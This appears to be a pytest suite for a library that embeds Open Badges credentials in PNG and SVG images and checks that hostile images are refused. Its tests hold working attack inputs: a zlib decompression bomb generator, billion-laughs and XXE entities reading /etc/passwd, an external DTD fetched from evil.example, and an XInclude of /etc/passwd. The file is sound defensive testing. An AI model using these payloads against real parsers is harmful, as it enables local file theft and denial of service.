"""Open Badges baking: PNG and SVG read and written, real fixtures, and hostile images refused."""

from __future__ import annotations

import base64
import json
import struct
import time
import zlib
from pathlib import Path

import pytest

from satchel.validator.baked import (
    MAX_BADGE_TEXT_BYTES,
    MAX_IMAGE_BYTES,
    MAX_PNG_CHUNKS,
    OB2_SVG_NAMESPACE,
    OB3_SVG_NAMESPACE,
    PNG_SIGNATURE,
    BakedImageError,
    bake_png,
    bake_svg,
    unbake_png,
    unbake_svg,
)

DATA = Path(__file__).resolve().parent / "extract"
PLAIN_PNG = (DATA / "plain.png").read_bytes()
PLAIN_SVG = (DATA / "plain.svg").read_bytes()
FIXTURES = "vectors/1EdTech-digital-credentials-public-validator/inspector-vc/src/test/resources"

CREDENTIAL = {
    "@context": ["https://www.w3.org/ns/credentials/v2"],
    "id": "urn:uuid:0d0e4b5e-6d3c-4c52-9b0e-2f0d3d5b6c7a",
    "type": ["VerifiableCredential", "OpenBadgeCredential"],
    "name": "Caf\u00e9 \u2615 badge ]]> with a CDATA end inside",
}
CREDENTIAL_JSON = json.dumps(CREDENTIAL, ensure_ascii=False, indent=2)
JWT = "eyJhbGciOiJFZERTQSJ9.eyJ2YyI6e319.c2lnbmF0dXJl"
HOSTED_URL = "https://issuer.example/assertions/1"
OB2_HOSTED_JSON = json.dumps({"@context": "https://w3id.org/openbadges/v2", "id": HOSTED_URL})


def chunk(chunk_type: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data))
        + chunk_type
        + data
        + struct.pack(">I", zlib.crc32(chunk_type + data))
    )


def png_chunks(image: bytes) -> list[tuple[bytes, bytes]]:
    """(type, data) of every chunk, read naively: for checking what bake_png wrote."""
    found, offset = [], len(PNG_SIGNATURE)
    while offset < len(image):
        (length,) = struct.unpack_from(">I", image, offset)
        found.append((image[offset + 4 : offset + 8], image[offset + 8 : offset + 8 + length]))
        offset += 12 + length
    return found


def with_chunks_before_iend(image: bytes, *extra: bytes) -> bytes:
    return image[:-12] + b"".join(extra) + image[-12:]


def itxt(keyword: str, text: bytes, *, compressed: bool = False) -> bytes:
    body = zlib.compress(text) if compressed else text
    flag = b"\x01\x00" if compressed else b"\x00\x00"
    return chunk(b"iTXt", keyword.encode() + b"\0" + flag + b"en\0\0" + body)


def svg_with(body: str, *, prolog: str = "") -> bytes:
    return (
        f'{prolog}<svg xmlns="http://www.w3.org/2000/svg" '
        f'xmlns:openbadges="{OB3_SVG_NAMESPACE}">{body}</svg>'
    ).encode()


def zlib_bomb_of_a_gigabyte() -> bytes:
    """A valid zlib stream of 1 GiB of zeros (about 1 MB), built without compressing 1 GiB:
    full-flush segments of 1 MiB of zeros are identical, so one is repeated."""
    zeros = bytes(1 << 20)
    compressor = zlib.compressobj(9)
    first = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    segment = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    size = 1 << 30
    adler = ((size % 65521) << 16) | 1  # Adler-32 of zeros: a stays 1, b counts the bytes
    return first + segment * 1023 + b"\x03\x00" + struct.pack(">I", adler)


@pytest.fixture(scope="module")
def fixtures(shared_dir: Path) -> Path:
    folder = shared_dir / FIXTURES
    if not folder.is_dir():
        pytest.fail(f"{folder} is missing")
    return folder


# --- the 1EdTech baked fixtures --------------------------------------------------------------

BAKED_FIXTURES = [
    ("ob30/simple-json.png", "openbadgecredential", "json"),
    ("ob30/simple-jwt.png", "openbadgecredential", "jwt"),
    ("ob30/simple-jwt_v1.png", "openbadgecredential", "jwt"),
    ("ob30/simple-json.svg", "credential", "json"),
    ("ob30/simple-jwt.svg", "credential", "jwt"),
    ("ob30/simple-jwt_v1.svg", "credential", "jwt"),
    ("ob20/simple-badge.png", "openbadges", "json"),
]


def form_of(text: str) -> str:
    stripped = text.strip()
    if stripped.startswith("{"):
        json.loads(stripped)
        return "json"
    if stripped.count(".") == 2 and " " not in stripped:
        return "jwt"
    return "other"


@pytest.mark.parametrize(("name", "keyword", "form"), BAKED_FIXTURES)
def test_1edtech_baked_fixture_unbakes_to_the_expected_form(fixtures, name, keyword, form):
    data = (fixtures / name).read_bytes()
    payload = unbake_png(data) if name.endswith(".png") else unbake_svg(data)
    assert payload is not None
    assert payload.keyword == keyword
    assert payload.format == name.rsplit(".", 1)[1]
    assert payload.ob_version == ("2.0" if name.startswith("ob20") else "3.0")
    assert form_of(payload.text) == form


@pytest.mark.parametrize("stem", ["simple-json", "simple-jwt", "simple-jwt_v1"])
def test_1edtech_png_and_svg_twins_carry_the_same_credential(fixtures, stem):
    png = unbake_png((fixtures / "ob30" / f"{stem}.png").read_bytes())
    svg = unbake_svg((fixtures / "ob30" / f"{stem}.svg").read_bytes())
    assert png is not None and svg is not None
    if form_of(png.text) == "json":
        assert json.loads(png.text)["id"] == json.loads(svg.text)["id"]
    else:
        claims = json.loads(base64.urlsafe_b64decode(png.text.split(".")[1] + "=="))
        twin = json.loads(base64.urlsafe_b64decode(svg.text.split(".")[1] + "=="))
        assert claims.get("vc", claims)["type"] == twin.get("vc", twin)["type"]


@pytest.mark.parametrize(
    "name", ["ob20/assets/beths-robot-badge.png", "ob20/assets/robotics-badge.png"]
)
def test_1edtech_ob20_asset_images_hold_no_badge(fixtures, name):
    assert unbake_png((fixtures / name).read_bytes()) is None


# --- round trips -----------------------------------------------------------------------------

ROUND_TRIPS = [
    ("3.0", CREDENTIAL_JSON),
    ("3.0", JWT),
    ("2.0", OB2_HOSTED_JSON),
    ("2.0", JWT),
    ("2.0", HOSTED_URL),
]


@pytest.mark.parametrize(("ob_version", "payload"), ROUND_TRIPS)
def test_png_bake_then_unbake_gives_back_the_payload(ob_version, payload):
    baked = unbake_png(bake_png(PLAIN_PNG, payload, ob_version=ob_version))
    assert baked is not None
    assert baked.text == payload
    assert baked.ob_version == ob_version


@pytest.mark.parametrize(("ob_version", "payload"), ROUND_TRIPS)
def test_svg_bake_then_unbake_gives_back_the_payload(ob_version, payload):
    baked = unbake_svg(bake_svg(PLAIN_SVG, payload, ob_version=ob_version))
    assert baked is not None
    assert baked.text == payload
    assert baked.ob_version == ob_version


def test_png_bake_writes_one_uncompressed_itxt_chunk_before_idat_and_keeps_other_chunks():
    baked = bake_png(PLAIN_PNG, JWT)
    original = png_chunks(PLAIN_PNG)
    written = png_chunks(baked)
    assert [c for c in written if c[0] != b"iTXt"] == original
    types = [c[0] for c in written]
    assert types.index(b"iTXt") == types.index(b"IDAT") - 1
    assert written[types.index(b"iTXt")][1] == b"openbadgecredential\0\0\0\0\0" + JWT.encode()


def test_png_rebake_replaces_the_badge_of_either_version_with_exactly_one_chunk():
    first = bake_png(PLAIN_PNG, HOSTED_URL, ob_version="2.0")
    second = bake_png(first, CREDENTIAL_JSON, ob_version="3.0")
    assert [c[0] for c in png_chunks(second)].count(b"iTXt") == 1
    baked = unbake_png(second)
    assert baked is not None and baked.text == CREDENTIAL_JSON and baked.ob_version == "3.0"


def test_png_bake_drops_bytes_after_iend():
    baked = bake_png(PLAIN_PNG + b"trailing junk", JWT)
    assert baked.endswith(chunk(b"IEND", b""))


def test_svg_bake_puts_the_element_first_in_svg_and_keeps_the_rest_byte_for_byte():
    baked = bake_svg(PLAIN_SVG, JWT)
    root = PLAIN_SVG.index(b"<svg")
    tag_end = PLAIN_SVG.index(b'data-note="a > b">') + len(b'data-note="a > b"')
    assert baked.startswith(PLAIN_SVG[:tag_end])
    element = f'<openbadges:credential verify="{JWT}"></openbadges:credential>'.encode()
    assert baked[tag_end:].startswith(
        f' xmlns:openbadges="{OB3_SVG_NAMESPACE}">\n'.encode() + element
    )
    assert baked.endswith(PLAIN_SVG[tag_end + 1 :])
    assert root < tag_end


def test_svg_rebake_replaces_an_existing_badge_element(fixtures):
    original = (fixtures / "ob30" / "simple-json.svg").read_bytes()
    rebaked = bake_svg(original, JWT)
    assert rebaked.count(b"<openbadges:credential") == 1
    baked = unbake_svg(rebaked)
    assert baked is not None and baked.text == JWT
    assert rebaked.endswith(original[original.index(b"</openbadges:credential>") + 24 :])


def test_svg_rebake_replaces_an_empty_element_badge_of_the_other_version():
    image = (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="{OB2_SVG_NAMESPACE}">'
        f'<openbadges:assertion verify="{HOSTED_URL}"/><rect/></svg>'
    ).encode()
    rebaked = bake_svg(image, CREDENTIAL_JSON, ob_version="3.0")
    assert b"openbadges:assertion" not in rebaked
    assert rebaked.endswith(b"<rect/></svg>")
    baked = unbake_svg(rebaked)
    assert baked is not None and baked.keyword == "credential" and baked.text == CREDENTIAL_JSON


def test_svg_bake_into_a_self_closing_root_closes_it():
    baked = unbake_svg(bake_svg(b'<svg xmlns="http://www.w3.org/2000/svg" />', JWT))
    assert baked is not None and baked.text == JWT


def test_svg_bake_of_an_ob20_hosted_assertion_puts_its_url_in_verify():
    baked = bake_svg(PLAIN_SVG, OB2_HOSTED_JSON, ob_version="2.0")
    assert f'<openbadges:assertion verify="{HOSTED_URL}"><![CDATA['.encode() in baked
    assert f'xmlns:openbadges="{OB2_SVG_NAMESPACE}"'.encode() in baked


def test_svg_bake_keeps_a_utf8_bom_and_the_offsets_behind_it():
    baked = unbake_svg(bake_svg(b"\xef\xbb\xbf" + PLAIN_SVG, JWT))
    assert baked is not None and baked.text == JWT


# --- reading variants ------------------------------------------------------------------------


def test_png_compressed_itxt_badge_is_read():
    image = with_chunks_before_iend(
        PLAIN_PNG, itxt("openbadges", OB2_HOSTED_JSON.encode(), compressed=True)
    )
    baked = unbake_png(image)
    assert baked is not None and baked.text == OB2_HOSTED_JSON


def test_png_ztxt_and_text_ob20_badges_are_read():
    ztxt = chunk(b"zTXt", b"openbadges\0\0" + zlib.compress(HOSTED_URL.encode()))
    text = chunk(b"tEXt", b"openbadges\0" + HOSTED_URL.encode())
    for extra in (ztxt, text):
        baked = unbake_png(with_chunks_before_iend(PLAIN_PNG, extra))
        assert baked is not None and baked.text == HOSTED_URL and baked.ob_version == "2.0"


def test_png_badge_chunk_after_iend_is_ignored():
    assert unbake_png(PLAIN_PNG + itxt("openbadgecredential", JWT.encode())) is None


def test_png_other_text_chunks_are_not_badges():
    assert unbake_png(PLAIN_PNG) is None
    image = with_chunks_before_iend(PLAIN_PNG, chunk(b"tEXt", b"openbadgesX\0" + JWT.encode()))
    assert unbake_png(image) is None


def test_svg_badge_in_cdata_with_surrounding_whitespace_is_read():
    document = json.dumps({"id": CREDENTIAL["id"], "name": "A <b> & C"}, indent=2)
    image = svg_with(
        f"<openbadges:credential>\n  <![CDATA[\n{document}\n]]>\n</openbadges:credential>"
    )
    baked = unbake_svg(image)
    assert baked is not None and baked.text == document


def test_svg_element_with_the_right_name_in_another_namespace_is_not_a_badge():
    image = (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:o="urn:other">'
        b'<o:credential verify="a.b.c"/></svg>'
    )
    assert unbake_svg(image) is None


def test_svg_with_only_the_standard_external_doctype_is_read_and_nothing_is_fetched():
    # the no-network guard in tests/conftest.py fails the test if the DTD were fetched
    prolog = '<!DOCTYPE svg SYSTEM "https://dtd.example/evil.dtd">'
    baked = unbake_svg(svg_with(f'<openbadges:credential verify="{JWT}"/>', prolog=prolog))
    assert baked is not None and baked.text == JWT


# --- hostile PNG -----------------------------------------------------------------------------


@pytest.mark.parametrize("keep", [0, 4, 7, 8, 12, 20, 33, -40, -13, -12, -5, -1])
def test_png_truncated_at_any_offset_is_refused(keep):
    image = bake_png(PLAIN_PNG, JWT)
    with pytest.raises(BakedImageError):
        unbake_png(image[:keep])


def test_png_chunk_length_past_the_end_is_refused():
    image = bake_png(PLAIN_PNG, JWT)
    at = len(PNG_SIGNATURE) + 25  # the chunk after IHDR
    damaged = image[:at] + struct.pack(">I", 0x7FFFFFF0) + image[at + 4 :]
    with pytest.raises(BakedImageError, match="needs"):
        unbake_png(damaged)


def test_png_with_more_than_ten_thousand_chunks_is_refused_fast():
    tiny = chunk(b"tEXt", b"a\0b")
    image = with_chunks_before_iend(PLAIN_PNG, tiny * (MAX_PNG_CHUNKS + 1))
    started = time.perf_counter()
    with pytest.raises(BakedImageError, match="chunks"):
        unbake_png(image)
    assert time.perf_counter() - started < 1.0


def test_png_zlib_bomb_in_itxt_is_refused_fast():
    bomb = zlib_bomb_of_a_gigabyte()
    body = b"openbadgecredential\0\x01\x00\0\0" + bomb
    image = with_chunks_before_iend(PLAIN_PNG, chunk(b"iTXt", body))
    started = time.perf_counter()
    with pytest.raises(BakedImageError, match="expands past"):
        unbake_png(image)
    assert time.perf_counter() - started < 1.0


def test_png_zlib_bomb_in_ztxt_is_refused():
    body = b"openbadges\0\0" + zlib_bomb_of_a_gigabyte()
    with pytest.raises(BakedImageError, match="expands past"):
        unbake_png(with_chunks_before_iend(PLAIN_PNG, chunk(b"zTXt", body)))


def test_png_truncated_compressed_badge_text_is_refused():
    damaged = itxt("openbadges", OB2_HOSTED_JSON.encode(), compressed=True)
    body = damaged[8:-4][:-6]  # cut the zlib stream short, then re-wrap with a good CRC
    with pytest.raises(BakedImageError, match="truncated"):
        unbake_png(with_chunks_before_iend(PLAIN_PNG, chunk(b"iTXt", body)))


def test_png_bad_crc_is_refused():
    image = bytearray(bake_png(PLAIN_PNG, JWT))
    image[len(PNG_SIGNATURE) + 25 + 20] ^= 0xFF  # a byte inside the badge chunk's text
    with pytest.raises(BakedImageError, match="CRC"):
        unbake_png(bytes(image))


def test_png_badge_text_over_the_cap_is_refused():
    big = itxt("openbadgecredential", b"x" * (MAX_BADGE_TEXT_BYTES + 1))
    with pytest.raises(BakedImageError, match="limit"):
        unbake_png(with_chunks_before_iend(PLAIN_PNG, big))


def test_png_image_over_the_cap_is_refused():
    with pytest.raises(BakedImageError, match="limit"):
        unbake_png(PLAIN_PNG + bytes(MAX_IMAGE_BYTES))


def test_png_with_two_badge_chunks_is_refused():
    image = with_chunks_before_iend(
        PLAIN_PNG,
        itxt("openbadgecredential", JWT.encode()),
        itxt("openbadges", HOSTED_URL.encode()),
    )
    with pytest.raises(BakedImageError, match="exactly one"):
        unbake_png(image)


def test_png_badge_text_that_is_not_utf8_is_refused():
    with pytest.raises(BakedImageError, match="UTF-8"):
        unbake_png(with_chunks_before_iend(PLAIN_PNG, itxt("openbadges", b"\xff\xfe{}")))


def test_png_not_starting_with_ihdr_is_refused():
    image = PNG_SIGNATURE + chunk(b"tEXt", b"a\0b") + PLAIN_PNG[len(PNG_SIGNATURE) :]
    with pytest.raises(BakedImageError, match="IHDR"):
        unbake_png(image)


@pytest.mark.parametrize("data", [b"", b"GIF89a", b"\x89PNG\r\n", b"{}"])
def test_non_png_bytes_are_refused_by_the_png_reader(data):
    with pytest.raises(BakedImageError, match="not a PNG"):
        unbake_png(data)


# --- hostile SVG -----------------------------------------------------------------------------

BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE svg ['
    '<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">'
        for i in range(1, 10)
    )
    + "]>"
)


@pytest.mark.parametrize(
    ("prolog", "body"),
    [
        pytest.param(
            BILLION_LAUGHS,
            "<openbadges:credential>&lol9;</openbadges:credential>",
            id="billion-laughs",
        ),
        pytest.param(
            '<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
            "<openbadges:credential>&xxe;</openbadges:credential>",
            id="external-entity",
        ),
        pytest.param(
            '<!DOCTYPE svg [<!ENTITY % remote SYSTEM "https://evil.example/x.dtd"> %remote;]>',
            "",
            id="external-parameter-entity",
        ),
        pytest.param(
            f'<!DOCTYPE svg [<!ATTLIST openbadges:credential verify CDATA "{JWT}">]>',
            "<openbadges:credential/>",
            id="injected-default-attribute",
        ),
        pytest.param("<!DOCTYPE svg [<!ELEMENT svg ANY>]>", "", id="internal-subset"),
    ],
)
def test_svg_with_a_dtd_internal_subset_or_entities_is_refused(prolog, body):
    started = time.perf_counter()
    with pytest.raises(BakedImageError, match="refused"):
        unbake_svg(svg_with(body, prolog=prolog))
    assert time.perf_counter() - started < 1.0


def test_svg_with_xinclude_is_refused():
    body = (
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
        'href="file:///etc/passwd" parse="text"/>'
    )
    with pytest.raises(BakedImageError, match="XInclude"):
        unbake_svg(svg_with(body))


def test_svg_over_the_size_cap_is_refused():
    with pytest.raises(BakedImageError, match="limit"):
        unbake_svg(svg_with(" " * MAX_IMAGE_BYTES))


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"<html><body/></html>", "not an SVG"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><g></svg>", "well-formed"),
        (b"<?xml version='1.0' encoding='no-such-codec'?><svg/>", "well-formed"),
        (b"<?xml version='1.0' encoding='utf-7'?><svg/>", "well-formed"),
        (b"<?xml version='1.0' encoding='idna'?><svg/>", "well-formed"),
        (b"<?xml version='1.0' encoding='rot13'?><svg/>", "well-formed"),
        (b"   ", "well-formed"),
    ],
)
def test_svg_that_is_not_a_well_formed_svg_is_refused(data, message):
    with pytest.raises(BakedImageError, match=message):
        unbake_svg(data)


def test_svg_with_two_badge_elements_is_refused():
    body = f'<openbadges:credential verify="{JWT}"/><openbadges:credential verify="{JWT}"/>'
    with pytest.raises(BakedImageError, match="exactly one"):
        unbake_svg(svg_with(body))


def test_svg_with_an_empty_badge_element_is_refused():
    with pytest.raises(BakedImageError, match="empty"):
        unbake_svg(svg_with("<openbadges:credential>  </openbadges:credential>"))


def test_svg_without_a_badge_unbakes_to_none():
    assert unbake_svg(PLAIN_SVG) is None


# --- baking refusals -------------------------------------------------------------------------


@pytest.mark.parametrize("payload", ["", "   \n"])
def test_baking_an_empty_payload_is_refused(payload):
    with pytest.raises(BakedImageError, match="empty"):
        bake_png(PLAIN_PNG, payload)
    with pytest.raises(BakedImageError, match="empty"):
        bake_svg(PLAIN_SVG, payload)


def test_baking_a_payload_over_the_cap_is_refused():
    with pytest.raises(BakedImageError, match="limit"):
        bake_png(PLAIN_PNG, "x" * (MAX_BADGE_TEXT_BYTES + 1))


def test_baking_into_a_png_without_image_data_is_refused():
    no_idat = PNG_SIGNATURE + PLAIN_PNG[8:33] + chunk(b"IEND", b"")
    with pytest.raises(BakedImageError, match="IDAT"):
        bake_png(no_idat, JWT)


def test_baking_into_a_utf16_svg_is_refused():
    image = '<?xml version="1.0" encoding="UTF-16"?><svg xmlns="http://www.w3.org/2000/svg"/>'
    with pytest.raises(BakedImageError, match="UTF-8"):
        bake_svg(image.encode("utf-16"), JWT)


def test_baking_text_xml_cannot_carry_into_an_svg_is_refused():
    with pytest.raises(BakedImageError, match="XML cannot carry"):
        bake_svg(PLAIN_SVG, '{"name": "bell \x07"}')
